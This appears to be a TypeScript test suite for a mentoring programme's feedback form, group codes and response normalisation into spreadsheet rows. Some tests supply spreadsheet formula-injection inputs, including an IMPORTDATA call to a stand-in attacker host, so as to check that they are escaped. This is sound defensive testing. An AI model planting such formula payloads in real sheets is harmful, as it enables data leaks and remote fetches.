// The feedback form as data, group codes, and one response → one normalised Feedback row: the
// rules, the catalogue of odd responses (issue 6, item 5), and properties over any response.
import fc from 'fast-check';
import {
  FEEDBACK_FORM,
  GOALS,
  MAX_SESSIONS,
  MET_CHOICES,
  feedbackForm,
  groupCode,
  groupCodeProblem,
  parseGroupCode,
  prefilledAnswers,
  programTag,
  question,
} from '../../src/core/feedback-form';
import {
  CELL_LIMIT,
  FEEDBACK_FIELDS,
  FEEDBACK_HEADERS,
  feedbackRecord,
  feedbackRowValues,
  groupForDate,
  readFeedbackRecords,
  readRotationGroups,
  responseSource,
  sessionDates,
  sessionForDate,
  sheetText,
  unescapeSheetText,
  type FeedbackRow,
  type FormResponse,
} from '../../src/core/feedback';
import { FEEDBACK, ROTATIONS, matchHeaders } from '../../src/core/schema';
import { CONTEXT, GOOD, GROUPS, PEOPLE, PROGRAM, SETTINGS, code, group, mail, namedValues, normalise, response, type Answers } from './feedback-fixtures';

const OTHER_PROGRAM = '0b7e5d12-9a3c-4f61-8e2d-7c5a1b3f9e04';

describe('the feedback form', () => {
  it('asks the questions of the issue, in order, and collects the email instead of asking it', () => {
    expect(FEEDBACK_FORM.collectEmail).toBe(true);
    expect(FEEDBACK_FORM.questions.map((q) => [q.key, q.type, q.required])).toEqual([
      ['groupCode', 'text', false],
      ['session', 'list', false],
      ['met', 'multipleChoice', true],
      ['relationship', 'scale', false],
      ['coaching', 'scale', false],
      ['accountability', 'scale', false],
      ['workedOn', 'paragraph', false],
      ['commitment', 'paragraph', false],
      ['pairingRating', 'scale', false],
      ['nextCycle', 'multipleChoice', false],
    ]);
    expect(FEEDBACK_FORM.questions.some((q) => /e-?mail/i.test(q.title))).toBe(false);
    expect(question('session').choices).toEqual(['1', '2', '3', '4', '5', '6', '7', '8', '9', '10', '11', '12']);
    expect(question('met').choices).toEqual(['Yes', 'Rescheduled', 'No']);
    expect(question('groupCode').helpText).toMatch(/prefilled from your invitation; leave blank if unsure/i);
    expect(question('session').helpText).toMatch(/derived from the date/);
    for (const g of GOALS) {
      expect(question(g.key)).toMatchObject({ type: 'scale', bounds: { low: 1, high: 5 }, labels: { low: expect.any(String), high: expect.any(String) } });
      expect(question(g.key).title.startsWith(g.header === 'Coaching' ? 'Coaching practice' : g.header)).toBe(true);
    }
    expect(FEEDBACK_FORM.title).not.toBe('');
    expect(FEEDBACK_FORM.description).not.toBe('');
  });

  it('has unique titles (namedValues are keyed by title), none of them the form’s own Timestamp or Email Address', () => {
    const titles = FEEDBACK_FORM.questions.map((q) => q.title.toLowerCase());
    expect(new Set(titles).size).toBe(titles.length);
    expect(titles).not.toContain('timestamp');
    expect(titles).not.toContain('email address');
  });

  it('can list fewer sessions, 1 to 12', () => {
    expect(feedbackForm(6).questions.find((q) => q.key === 'session')!.choices).toEqual(['1', '2', '3', '4', '5', '6']);
    expect(feedbackForm(40).questions.find((q) => q.key === 'session')!.choices).toHaveLength(MAX_SESSIONS);
    expect(feedbackForm(0).questions.find((q) => q.key === 'session')!.choices).toEqual(['1']);
    expect(feedbackForm(2.5).questions.find((q) => q.key === 'session')!.choices).toHaveLength(MAX_SESSIONS);
  });
});

describe('group codes', () => {
  it('are four base-32 characters for the program, then the group id; stable across versions', () => {
    expect(programTag(PROGRAM)).toBe('A8Y4'); // codes already sent in invitations must keep working
    expect(groupCode(PROGRAM, 'C3-01')).toBe('A8Y4-C3-01');
    expect(groupCode(PROGRAM, ' c12-7 ')).toBe('A8Y4-C12-07');
    expect(groupCode(OTHER_PROGRAM, 'C3-01')).not.toBe(groupCode(PROGRAM, 'C3-01'));
    expect(groupCode(PROGRAM, 'C3-01')).toBe(groupCode(PROGRAM, 'C3-01'));
  });

  it('refuse a group id not written like C3-01', () => {
    for (const bad of ['', 'G1', 'C0-01', 'C3-00', 'C3', '3-01', 'C3-01-02']) expect(() => groupCode(PROGRAM, bad)).toThrow(RangeError);
  });

  it('are read whatever the case, spaces and dashes, with Crockford’s I, L and O', () => {
    const want = { programTag: 'A8Y4', cycle: 3, groupId: 'C3-01' };
    for (const typed of ['A8Y4-C3-01', 'a8y4-c3-01', '  a8y4 c3 01 ', 'A8Y4 - C3 - 01', 'A8Y4–C3–01', 'a8y4c301', 'A8 Y4-C3-01', 'A8Y4-C3-1', 'A8Y4C3-01', 'A8Y4_C3.01', 'A8Y4-C301', 'A8Y4C3 01']) {
      expect([typed, parseGroupCode(typed)]).toEqual([typed, want]);
    }
    expect(parseGroupCode('10L0-c3-01')).toEqual({ programTag: '1010', cycle: 3, groupId: 'C3-01' });
    expect(parseGroupCode('A8Y4-C30-01')).toEqual({ programTag: 'A8Y4', cycle: 30, groupId: 'C30-01' });
    expect(parseGroupCode('A8Y4-C3-101')).toEqual({ programTag: 'A8Y4', cycle: 3, groupId: 'C3-101' });
  });

  it('read as null when they are not codes', () => {
    for (const junk of ['', 'hello', 'A8Y4', 'A8Y4-C3', 'A8Y4-C0-01', 'A8Y4-C3-00', 'A8Y-C3-01', 'A8Y4-X3-01', 'A8Y4-C3-01-9', '=A8Y4-C3-01', 'A8Y4-C3-1-01', 'A8Y4C3', 'A8Y4C31000', 'A8Y4Z-C3-01', 'x'.repeat(500)]) {
      expect([junk.slice(0, 20), parseGroupCode(junk)]).toEqual([junk.slice(0, 20), null]);
    }
    expect(parseGroupCode(42)).toBeNull();
    expect(parseGroupCode(null)).toBeNull();
  });

  it('read back what they wrote, however the code is retyped (property)', () => {
    // Lower-cases some characters; the first dash may go, or be a space; the second is any separator.
    const retype = (code: string, lower: boolean[], first: string, second: string) => {
      const [tag, cycle, group] = code.split('-');
      const cased = (s: string, k: number) => [...s].map((ch, i) => (lower[(i + k) % lower.length] ? ch.toLowerCase() : ch)).join('');
      return `${cased(tag, 0)}${first}${cased(cycle, 4)}${second}${group}`;
    };
    fc.assert(
      fc.property(
        fc.string(),
        fc.integer({ min: 1, max: 9999 }),
        fc.integer({ min: 1, max: 999 }),
        fc.array(fc.boolean(), { minLength: 1 }),
        fc.constantFrom('-', '', ' ', ' - ', '–'),
        fc.constantFrom('-', ' ', ' - ', '–', '_', '.'),
        (id, cycle, n, lower, first, second) => {
          const groupId = `C${cycle}-${String(n).padStart(2, '0')}`;
          const written = groupCode(id, groupId);
          expect(written).toMatch(/^[0-9A-HJKMNP-TV-Z]{4}-C\d+-\d{2,3}$/);
          expect(parseGroupCode(written)).toEqual({ programTag: programTag(id), cycle, groupId });
          expect(parseGroupCode(retype(written, lower, first, second))).toEqual({ programTag: programTag(id), cycle, groupId });
          expect(parseGroupCode(` ${written.toLowerCase()} `)).toEqual({ programTag: programTag(id), cycle, groupId });
        },
      ),
    );
  });

  it('name any group number and any cycle number (issue 12, defect 6: a 4-digit group had no code)', () => {
    expect(groupCode(PROGRAM, 'C3-1000')).toBe('A8Y4-C3-1000');
    expect(groupCode(PROGRAM, 'C3-12345')).toBe('A8Y4-C3-12345');
    expect(groupCode(PROGRAM, 'C1000-01')).toBe('A8Y4-C1000-01');
    expect(groupCode(PROGRAM, 'C123456-12345')).toBe('A8Y4-C123456-12345');
    expect(parseGroupCode('A8Y4-C3-1000')).toEqual({ programTag: 'A8Y4', cycle: 3, groupId: 'C3-1000' });
    expect(parseGroupCode('a8y4 c3 12345')).toEqual({ programTag: 'A8Y4', cycle: 3, groupId: 'C3-12345' });
    expect(parseGroupCode('A8Y4-C30001-01')).toEqual({ programTag: 'A8Y4', cycle: 30001, groupId: 'C30001-01' });
    expect(parseGroupCode('A8Y4-C1234-1000')).toEqual({ programTag: 'A8Y4', cycle: 1234, groupId: 'C1234-1000' });
    // Leading zeros read as the number they write; a number past 2^53 names no group.
    expect(parseGroupCode('A8Y4-C3-0001')).toEqual({ programTag: 'A8Y4', cycle: 3, groupId: 'C3-01' });
    expect(parseGroupCode(`A8Y4-C3-${'9'.repeat(17)}`)).toBeNull();
    expect(parseGroupCode(`A8Y4-C${'9'.repeat(17)}-01`)).toBeNull();
    expect(() => groupCode(PROGRAM, `C3-${'9'.repeat(17)}`)).toThrow(RangeError);
  });

  it('groupCodeProblem names an id typed over in Rotations, for the booking to refuse; every number has a code', () => {
    for (const ok of ['C3-01', 'C3-1000', 'C1234-12345', ' c3-7 ']) expect(groupCodeProblem(ok)).toBeNull();
    expect(groupCodeProblem('Pair A')).toBe('group “Pair A” is not written like C3-01 (C, the cycle, a dash, the group number), so its invitation would carry no feedback link');
    expect(groupCodeProblem('C3-00')).toMatch(/^group “C3-00” is not written like C3-01/);
  });

  it('round-trip for every cycle and group number, however large (property)', () => {
    const numbers = fc.oneof(fc.integer({ min: 1, max: 120 }), fc.integer({ min: 1, max: 99_999 }), fc.integer({ min: 1, max: Number.MAX_SAFE_INTEGER }));
    fc.assert(
      fc.property(fc.string(), numbers, numbers, fc.constantFrom('-', ' ', ' - ', '–', '_', '.'), (id, cycle, n, separator) => {
        const groupId = `C${cycle}-${String(n).padStart(2, '0')}`;
        const written = groupCode(id, groupId);
        expect(written).toBe(`${programTag(id)}-${groupId}`);
        const want = { programTag: programTag(id), cycle, groupId };
        expect(parseGroupCode(written)).toEqual(want);
        expect(parseGroupCode(written.toLowerCase().split('-').join(separator))).toEqual(want);
        // Without the dash between cycle and group, the group is the last two digits, as written:
        // the code of a group numbered 1 to 99 still reads back.
        if (n <= 99) expect(parseGroupCode(`${programTag(id)}C${cycle}${String(n).padStart(2, '0')}`)).toEqual(want);
      }),
    );
  });

  it('are what the prefilled link carries, and nothing else', () => {
    expect(prefilledAnswers({ programId: PROGRAM, groupId: 'C3-02' })).toEqual({ groupCode: 'A8Y4-C3-02' });
    for (const key of Object.keys(prefilledAnswers({ programId: PROGRAM, groupId: 'C3-02' }))) expect(FEEDBACK_FORM.questions.map((q) => q.key)).toContain(key);
  });
});

describe('sessions by date', () => {
  it('are the cycle start and every cadence after it; a date belongs to the latest session on or before it', () => {
    expect(sessionDates('2027-03-30', SETTINGS)).toEqual(['2027-03-30', '2027-04-06', '2027-04-13', '2027-04-20', '2027-04-27', '2027-05-04']);
    expect(sessionDates('2027-03-30', { cycleWeeks: 6, cadence: 'fortnightly' })).toEqual(['2027-03-30', '2027-04-13', '2027-04-27']);
    expect(sessionForDate('2027-03-30', '2027-03-29', SETTINGS)).toBe(1);
    expect(sessionForDate('2027-03-30', '2027-03-30', SETTINGS)).toBe(1);
    expect(sessionForDate('2027-03-30', '2027-04-05', SETTINGS)).toBe(1);
    expect(sessionForDate('2027-03-30', '2027-04-06', SETTINGS)).toBe(2);
    expect(sessionForDate('2027-03-30', '2027-05-10', SETTINGS)).toBe(6);
    expect(sessionForDate('2027-03-30', '2027-06-01', SETTINGS)).toBe(6);
  });
});

describe('normaliseResponse', () => {
  it('turns a usual response into its row', () => {
    const row = normalise(response('Ann', '2027-04-06T17:00:00Z', { ...GOOD, groupCode: code('C3-01') }));
    expect(row).toEqual<FeedbackRow>({
      submitted: new Date('2027-04-06T17:00:00Z'),
      cycle: 3,
      group: 'C3-01',
      session: 2,
      respondent: 'Ann',
      email: 'ann@example.org',
      partners: 'Dan',
      met: 'Yes',
      relationship: 4,
      coaching: 3,
      accountability: 5,
      pairingRating: '',
      workedOn: 'Delegation',
      commitment: 'Ask two questions',
      nextCycle: '',
      flag: '',
      key: 'Form Responses 1!42',
    });
  });

  it('gives its cells in FEEDBACK column order, or at the columns of a rearranged sheet', () => {
    expect(FEEDBACK_FIELDS.map(([, header]) => header)).toEqual(FEEDBACK_HEADERS);
    const row = normalise(response('Bob', '2027-04-13T09:00:00Z', GOOD));
    const values = feedbackRowValues(row);
    expect(values).toHaveLength(17);
    expect(values).toEqual([new Date('2027-04-13T09:00:00Z'), 3, 'C3-02', 3, 'Bob', 'bob@example.org', 'Cat, Eve', 'Yes', 4, 3, 5, '', 'Delegation', 'Ask two questions', '', '', 'Form Responses 1!42']);
    const header = ['Notes', 'Key', 'Email', '', 'Cycle'];
    const { columns } = matchHeaders(header, FEEDBACK);
    expect(feedbackRowValues(row, columns)).toEqual(['', 'Form Responses 1!42', 'bob@example.org', '', 3]);
  });

  it('dates the response in the settings’ time zone', () => {
    const r = response('Ann', '2027-04-05T23:30:00Z', GOOD); // 00:30 on the 6th in London
    expect(normalise(r).session).toBe(2);
    expect(normalise(r, { ...CONTEXT, timeZone: 'UTC' }).session).toBe(1);
    expect(normalise(r, { ...CONTEXT, timeZone: 'America/New_York' }).session).toBe(1);
  });

  it('accepts the instant as a Date or an ISO string, and flags one that is neither', () => {
    const asDate = normalise({ ...response('Ann', '', GOOD), submittedAt: new Date('2027-04-06T17:00:00Z') });
    expect(asDate).toEqual(normalise(response('Ann', '2027-04-06T17:00:00Z', GOOD)));
    const bad = normalise(response('Ann', 'soon', { ...GOOD, groupCode: code('C3-01') }));
    expect(bad).toMatchObject({ submitted: '', cycle: 3, group: 'C3-01', session: '', flag: 'no valid submission time' });
    expect(normalise({ ...response('Ann', '', GOOD), submittedAt: new Date(NaN) }).flag).toContain('no valid submission time');
  });

  it('takes the session chosen, flags one outside 1…6 (kept) and one that is not a number (taken from the date)', () => {
    const at = '2027-04-06T17:00:00Z';
    expect(normalise(response('Ann', at, { ...GOOD, session: '5' }))).toMatchObject({ session: 5, flag: '' });
    expect(normalise(response('Ann', at, { ...GOOD, session: 'Session 4' }))).toMatchObject({ session: 4, flag: '' });
    expect(normalise(response('Ann', at, { ...GOOD, session: '9' }))).toMatchObject({ session: 9, flag: 'session 9 is not one of 1–6' });
    expect(normalise(response('Ann', at, { ...GOOD, session: '0' }))).toMatchObject({ session: 0, flag: 'session 0 is not one of 1–6' });
    expect(normalise(response('Ann', at, { ...GOOD, session: 'third' }))).toMatchObject({ session: 2, flag: 'session “third” is not a number; taken from the date' });
  });

  it('normalises Met whatever the case, and keeps and flags anything else', () => {
    const at = '2027-04-06T17:00:00Z';
    const met = (m: string) => normalise(response('Ann', at, { ...GOOD, met: m }));
    expect(met(' yes ')).toMatchObject({ met: 'Yes', flag: '' });
    expect(met('RESCHEDULED')).toMatchObject({ met: 'Rescheduled', flag: '' });
    expect(met('no.')).toMatchObject({ met: 'No', flag: 'did not meet, but gave ratings' });
    expect(met('kind of')).toMatchObject({ met: 'kind of', flag: '“Did you meet?” answer “kind of” is not Yes, Rescheduled or No' });
    expect(met('')).toMatchObject({ met: '', flag: 'no answer to “Did you meet?”' });
  });

  it('leaves a rating that is not 1–5 blank and quotes it in the flag', () => {
    const row = normalise(response('Ann', '2027-04-06T17:00:00Z', { ...GOOD, relationship: '7', coaching: 'great' }));
    expect(row).toMatchObject({ relationship: '', coaching: '', accountability: 5 });
    expect(row.flag).toBe('Relationship rating “7” is not a whole number from 1 to 5; Coaching rating “great” is not a whole number from 1 to 5; no rating for Relationship, Coaching');
  });

  it('uses the respondent’s own group when the code names a group they are not in', () => {
    const row = normalise(response('Bob', '2027-04-06T17:00:00Z', { ...GOOD, groupCode: code('C3-01') }));
    expect(row).toMatchObject({ group: 'C3-02', partners: 'Cat, Eve', cycle: 3, flag: 'not a member of C3-01; recorded under their own group C3-02' });
  });

  it('flags a code it cannot read, or naming no group, and finds the group from the email', () => {
    const at = '2027-04-06T17:00:00Z';
    expect(normalise(response('Ann', at, { ...GOOD, groupCode: 'our usual one' }))).toMatchObject({
      group: 'C3-01',
      flag: 'group code “our usual one” is not a code like K7QD-C3-01',
    });
    expect(normalise(response('Ann', at, { ...GOOD, groupCode: code('C3-07') }))).toMatchObject({ group: 'C3-01', flag: 'group C3-07 (from the group code) is not in Rotations' });
    const replaced = { ...CONTEXT, groups: [...GROUPS, group(3, 3, ['Ann', 'Bob'], 'replaced')] };
    expect(normalise(response('Ann', at, { ...GOOD, groupCode: code('C3-03') }), replaced)).toMatchObject({ group: 'C3-01', flag: 'group C3-03 (from the group code) is not in Rotations' });
  });

  it('keeps a response without an email, flagged, under the code’s group', () => {
    const row = normalise(response('', '2027-04-06T17:00:00Z', { ...GOOD, groupCode: code('C3-01') }));
    expect(row).toMatchObject({ email: '', respondent: '', group: 'C3-01', partners: 'Ann, Dan', session: 2, flag: 'no email address (the form did not collect one)' });
  });

  it('prefers a group not cancelled when someone is in two groups of the cycle', () => {
    const groups = [group(3, 3, ['Ann', 'Eve'], 'changed'), group(3, 1, ['Ann', 'Dan'], 'cancelled')];
    const ctx = { ...CONTEXT, groups };
    expect(normalise(response('Ann', '2027-04-20T09:00:00Z', GOOD), ctx)).toMatchObject({ group: 'C3-03', partners: 'Eve', flag: '' });
    expect(normalise(response('Ann', '2027-04-20T09:00:00Z', GOOD), { ...ctx, groups: [...groups].reverse() })).toMatchObject({ group: 'C3-03' });
    expect(groupForDate(groups, mail('Dan'), '2027-04-20')!.groupId).toBe('C3-01');
  });

  it('flags a response sent before its cycle started, and counts it for session 1', () => {
    expect(normalise(response('Ann', '2027-01-01T12:00:00Z', GOOD))).toMatchObject({ group: 'C1-01', cycle: 1, session: 1, flag: 'sent before cycle 1 started (on 2027-01-05)' });
  });

  it('finds the question by title whatever its case and spaces, and answers given as one string', () => {
    const values: Record<string, string | string[]> = { 'email address': ' ANN@Example.org ', ' did  you MEET? ': 'yes', 'Which session': ['', '3'] };
    const row = normalise({ namedValues: values, key: 'Form Responses 1!7', submittedAt: '2027-04-06T17:00:00Z' });
    expect(row).toMatchObject({ email: 'ann@example.org', respondent: 'Ann', met: 'Yes', session: 3, group: 'C3-01' });
    expect(row.flag).toBe('no rating for Relationship, Coaching, Accountability');
  });

  it('does not change its input', () => {
    const r = response('Ann', '2027-04-06T17:00:00Z', { ...GOOD, groupCode: code('C3-01') });
    const before = JSON.stringify([r, CONTEXT]);
    normalise(r);
    expect(JSON.stringify([r, CONTEXT])).toBe(before);
  });
});

describe('the catalogue of odd responses', () => {
  const at = '2027-04-06T17:00:00Z';

  it('unknown email: kept, no name, flagged; the group by date is none, the cycle and session still found', () => {
    const row = normalise(response('zed@example.org', at, GOOD));
    expect(row).toMatchObject({ email: 'zed@example.org', respondent: '', group: '', partners: '', cycle: 3, session: 2, relationship: 4 });
    expect(row.flag).toBe('unknown respondent; no group found for zed@example.org on 2027-04-06');
    const withCode = normalise(response('zed@example.org', at, { ...GOOD, groupCode: code('C3-01') }));
    expect(withCode).toMatchObject({ group: 'C3-01', partners: 'Ann, Dan', flag: 'unknown respondent; not a member of C3-01' });
  });

  it('blank group code: the group is found from the email and the date', () => {
    const row = normalise(response('Bob', '2027-04-13T09:00:00Z', { ...GOOD, groupCode: '' }));
    expect(row).toMatchObject({ group: 'C3-02', cycle: 3, session: 3, respondent: 'Bob', partners: 'Cat, Eve', flag: '' });
    expect(normalise(response('Bob', '2027-03-02T09:00:00Z', GOOD))).toMatchObject({ group: 'C2-02', cycle: 2, session: 3, partners: 'Dan, Eve', flag: '' });
  });

  it('a group code of another cycle: recorded under that group, flagged with when its cycle ended', () => {
    const row = normalise(response('Ann', at, { ...GOOD, groupCode: code('C1-01') }));
    expect(row).toMatchObject({ group: 'C1-01', cycle: 1, session: 6, partners: 'Bob' });
    expect(row.flag).toBe('group C1-01 is from cycle 1, which ended on 2027-02-15');
  });

  it('a group code of another program: flagged, and the group is found from the email and the date', () => {
    expect(programTag(OTHER_PROGRAM)).not.toBe(programTag(PROGRAM));
    const row = normalise(response('Ann', at, { ...GOOD, groupCode: code('C3-01', OTHER_PROGRAM) }));
    expect(row).toMatchObject({ group: 'C3-01', cycle: 3, session: 2, partners: 'Dan' });
    expect(row.flag).toBe(`group code of another program (${programTag(OTHER_PROGRAM)}-C3-01)`);
  });

  it('the same response delivered twice gives the same row, key included (the caller dedupes by key)', () => {
    const r = response('Ann', at, { ...GOOD, groupCode: code('C3-01') }, 42);
    const again: FormResponse = JSON.parse(JSON.stringify(r));
    const [a, b] = [normalise(r), normalise(again)];
    expect(b).toEqual(a);
    expect(feedbackRowValues(b)).toEqual(feedbackRowValues(a));
    expect(a.key).toBe('Form Responses 1!42');
    expect(normalise(response('Ann', at, { ...GOOD, groupCode: code('C3-01') }, 43)).key).toBe('Form Responses 1!43');
  });

  it.each([
    ['=', '=IMPORTDATA("https://evil.example/x")'],
    ['+', '+1 555 0100'],
    ['-', '-- not much, honestly'],
    ['@', '@Dan asked the questions'],
  ])('a text starting with %s is stored as text (a leading apostrophe), exactly as written', (_start, text) => {
    const row = normalise(response('Ann', at, { ...GOOD, workedOn: text, commitment: `  ${text}` }));
    expect(row.workedOn).toBe(`'${text}`);
    expect(row.commitment).toBe(`'${text}`);
    expect(unescapeSheetText(row.workedOn)).toBe(text);
    expect(row.flag).toBe('');
  });

  it('every text cell is protected, names and unknown answers included; other texts are left alone', () => {
    const people = PEOPLE.map((p) => (p.name === 'Dan' ? { ...p, name: '=HYPERLINK("x")' } : p));
    const row = normalise(response('Ann', at, { ...GOOD, met: '=1+1', workedOn: "'quoted'", commitment: 'a = b + c' }), { ...CONTEXT, people });
    expect(row.partners).toBe(`'=HYPERLINK("x")`);
    expect(row.met).toBe("'=1+1");
    expect(row.workedOn).toBe("''quoted'"); // Sheets swallows one leading apostrophe
    expect(row.commitment).toBe('a = b + c');
    expect(feedbackRowValues(row).filter((v): v is string => typeof v === 'string').every((v) => !/^[=+\-@]/.test(v))).toBe(true);
  });

  it('missing ratings: blank cells, never 0; flagged when they met, not when they did not', () => {
    const met = normalise(response('Ann', at, { met: 'Yes', workedOn: 'x' }));
    expect(met).toMatchObject({ relationship: '', coaching: '', accountability: '' });
    expect(met.flag).toBe('no rating for Relationship, Coaching, Accountability');
    const some = normalise(response('Ann', at, { met: 'Rescheduled', relationship: '5' }));
    expect(some).toMatchObject({ relationship: 5, coaching: '', accountability: '', flag: 'no rating for Coaching, Accountability' });
    const didNot = normalise(response('Ann', at, { met: 'No' }));
    expect(didNot).toMatchObject({ met: 'No', relationship: '', coaching: '', accountability: '', flag: '' });
  });

  it('"did not meet" with ratings: the ratings are kept and flagged', () => {
    const row = normalise(response('Ann', at, { ...GOOD, met: 'No' }));
    expect(row).toMatchObject({ met: 'No', relationship: 4, coaching: 3, accountability: 5, flag: 'did not meet, but gave ratings' });
  });

  it('a response after the cycle ended: kept under its group, flagged', () => {
    const late = normalise(response('Ann', '2027-05-12T10:00:00Z', GOOD)); // no cycle 4 groups yet
    expect(late).toMatchObject({ group: 'C3-01', cycle: 3, session: 6, partners: 'Dan', flag: 'sent after cycle 3 ended (on 2027-05-10)' });
    const byCode = normalise(response('Ann', '2027-04-01T10:00:00Z', { ...GOOD, groupCode: code('C2-01') }));
    expect(byCode).toMatchObject({ group: 'C2-01', cycle: 2, session: 6, partners: 'Cat', flag: 'sent after cycle 2 ended (on 2027-03-29)' });
    const muchLater = normalise(response('Ann', '2027-05-20T10:00:00Z', GOOD));
    expect(muchLater).toMatchObject({ group: '', cycle: 4, session: 2, flag: 'no group found for ann@example.org on 2027-05-20' });
  });

  it('a text over 50,000 characters: kept, cut with a visible marker naming where the whole answer is, at most 50,000', () => {
    const long = 'x'.repeat(62_345);
    const row = normalise(response('Ann', at, { ...GOOD, workedOn: long, commitment: `=${long}` }, 42));
    for (const cell of [row.workedOn, row.commitment]) {
      expect(cell.length).toBeLessThanOrEqual(CELL_LIMIT);
      expect(cell.length).toBeGreaterThan(CELL_LIMIT - 10);
      const m = /… \[cut: ([\d,]+) more characters; the full answer is in Form Responses 1 row 42\]$/.exec(cell);
      expect(m).not.toBeNull();
      const kept = cell.length - m![0].length - (cell.startsWith("'") ? 1 : 0);
      expect(kept + Number(m![1].replace(/,/g, ''))).toBe(long.length + (cell === row.commitment ? 1 : 0));
    }
    expect(row.workedOn.startsWith('xxx')).toBe(true);
    expect(row.commitment.startsWith("'=xxx")).toBe(true);
    expect(row.flag).toBe('');
  });
});

describe('sheetText', () => {
  it('never splits a character made of two UTF-16 units', () => {
    const cell = sheetText('😀'.repeat(30_000), { sheet: 'Form Responses 1', row: 9 });
    expect(cell.length).toBeLessThanOrEqual(CELL_LIMIT);
    const body = cell.slice(0, cell.indexOf('…'));
    expect(body.length % 2).toBe(0);
    expect(body).toBe('😀'.repeat(body.length / 2));
  });

  it('names no row when the key does not give one', () => {
    expect(responseSource('Form Responses 1!42')).toEqual({ sheet: 'Form Responses 1', row: 42 });
    expect(responseSource("'Form Responses 1'!A42")).toEqual({ sheet: 'Form Responses 1', row: 42 });
    expect(responseSource('response-42')).toBeNull();
    expect(sheetText('y'.repeat(60_000))).toMatch(/… \[cut: 10,0\d\d more characters\]$/);
  });

  it('keeps what fits as it is, trimmed', () => {
    expect(sheetText('  hello  ')).toBe('hello');
    expect(sheetText('y'.repeat(CELL_LIMIT))).toBe('y'.repeat(CELL_LIMIT));
    const over = sheetText(`=${'y'.repeat(CELL_LIMIT - 1)}`); // one character too many with the apostrophe
    expect(over.length).toBeLessThanOrEqual(CELL_LIMIT);
    expect(over).toMatch(/^'=y+… \[cut: \d\d more characters\]$/);
    expect(sheetText(`=${'y'.repeat(CELL_LIMIT - 2)}`)).toBe(`'=${'y'.repeat(CELL_LIMIT - 2)}`);
  });
});

describe('reading the sheets back', () => {
  it('reads Feedback rows by header, wherever the columns are, skipping blank rows', () => {
    const row = normalise(response('Ann', '2027-04-06T17:00:00Z', { ...GOOD, groupCode: code('C3-01') }));
    const table = [['Extra', ...FEEDBACK_HEADERS], ['note', ...feedbackRowValues(row)], ['', ...FEEDBACK_HEADERS.map(() => '')]];
    expect(readFeedbackRecords(table)).toEqual([feedbackRecord(row)]);
    expect(readFeedbackRecords([])).toEqual([]);
  });

  it('reads Rotations rows as groups: date cells in the spreadsheet’s zone, text dates as written', () => {
    const header = ROTATIONS.columns.map((c) => c.header);
    const at = (h: string, v: unknown, row: unknown[]) => {
      row[header.indexOf(h)] = v;
      return row;
    };
    const blank = () => header.map(() => '' as unknown);
    let r1 = blank();
    for (const [h, v] of [['Cycle', 3], ['Starts', new Date('2027-03-29T23:00:00Z')], ['Ends', '2027-05-10'], ['Group', 'c3-01'], ['Member 1', ' Ann@Example.org'], ['Member 2', 'dan@example.org'], ['Status', 'Scheduled']] as Array<[string, unknown]>) r1 = at(h, v, r1);
    let r2 = blank();
    for (const [h, v] of [['Cycle', ''], ['Group', 'C3-02']] as Array<[string, unknown]>) r2 = at(h, v, r2);
    expect(readRotationGroups([header, r1, r2, blank()], 'Europe/London')).toEqual([
      { cycle: 3, groupId: 'C3-01', members: ['ann@example.org', 'dan@example.org'], starts: '2027-03-30', ends: '2027-05-10', status: 'scheduled' },
    ]);
    expect(readRotationGroups([header, r1], 'UTC')[0].starts).toBe('2027-03-29');
  });
});

describe('normaliseResponse over any response (property)', () => {
  const formulaStart = /^[=+\-@]/;
  const text = fc.oneof(
    fc.string({ maxLength: 30 }),
    fc.tuple(fc.constantFrom('=', '+', '-', '@', "'", ' ', ' =', '\t@'), fc.string({ maxLength: 12 })).map(([a, b]) => a + b),
    fc.tuple(fc.constantFrom('=', 'x', '😀', '-'), fc.integer({ min: 24_990, max: 50_010 })).map(([c, n]) => c.repeat(n)),
  );
  const answers: fc.Arbitrary<Answers> = fc.record({
    email: fc.oneof(fc.constantFrom('', mail('Ann'), mail('Bob'), mail('Eve'), ' ANN@Example.org ', 'zed@example.org', '=evil@x.org'), fc.string({ maxLength: 20 })),
    groupCode: fc.oneof(fc.constantFrom('', code('C3-01'), code('C1-02'), code('C2-02'), code('C3-01', OTHER_PROGRAM), 'junk'), fc.string({ maxLength: 12 })),
    session: fc.oneof(fc.constantFrom('', '1', '6', '12', '0', 'Session 3'), fc.string({ maxLength: 6 })),
    met: fc.oneof(fc.constantFrom(...MET_CHOICES, '', 'yes', 'maybe', '=1'), fc.string({ maxLength: 8 })),
    relationship: fc.oneof(fc.constantFrom('', '1', '3', '5', '0', '6'), fc.string({ maxLength: 3 })),
    coaching: fc.constantFrom('', '2', '4', 'x'),
    accountability: fc.constantFrom('', '5', '-1'),
    workedOn: text,
    commitment: text,
  });
  const instant = fc.date({ min: new Date('2026-12-01T00:00:00Z'), max: new Date('2027-07-01T00:00:00Z'), noInvalidDate: true });

  it('gives exactly one row of 17 cells, safe text, at most 50,000 characters a cell, the same every time', () => {
    fc.assert(
      fc.property(answers, instant, fc.integer({ min: 2, max: 100_000 }), fc.boolean(), (a, at, rowNumber, asString) => {
        const r: FormResponse = { namedValues: namedValues(a), key: `Form Responses 1!${rowNumber}`, submittedAt: asString ? at.toISOString() : at };
        const row = normalise(r);
        const values = feedbackRowValues(row);
        expect(values).toHaveLength(17);
        for (const v of values) {
          if (typeof v !== 'string') continue;
          expect(v.length).toBeLessThanOrEqual(CELL_LIMIT);
          expect(formulaStart.test(v)).toBe(false);
        }
        for (const [given, cell] of [[a.workedOn!, row.workedOn], [a.commitment!, row.commitment]]) {
          const trimmed = given.trim();
          const escaped = /^[=+\-@']/.test(trimmed) ? 1 : 0;
          if (trimmed.length + escaped <= CELL_LIMIT) expect(unescapeSheetText(cell)).toBe(trimmed);
          else {
            expect(cell).toMatch(new RegExp(`… \\[cut: [\\d,]+ more characters; the full answer is in Form Responses 1 row ${rowNumber}\\]$`));
            expect(unescapeSheetText(cell).slice(0, 1000)).toBe(trimmed.slice(0, 1000));
          }
        }
        for (const rating of [row.relationship, row.coaching, row.accountability]) expect(['', 1, 2, 3, 4, 5]).toContain(rating);
        expect(row.session === '' || Number.isInteger(row.session)).toBe(true);
        expect(row.submitted).toEqual(at);
        expect(row.key).toBe(`Form Responses 1!${rowNumber}`);
        if (row.respondent === '') expect(row.flag).toMatch(/unknown respondent|no email address/);
        if (!(MET_CHOICES as readonly string[]).includes(row.met)) expect(row.flag).toMatch(/Did you meet/);
        expect(normalise(JSON.parse(JSON.stringify({ ...r, submittedAt: at.toISOString() })))).toEqual(row);
      }),
      { numRuns: 300 },
    );
  });
});
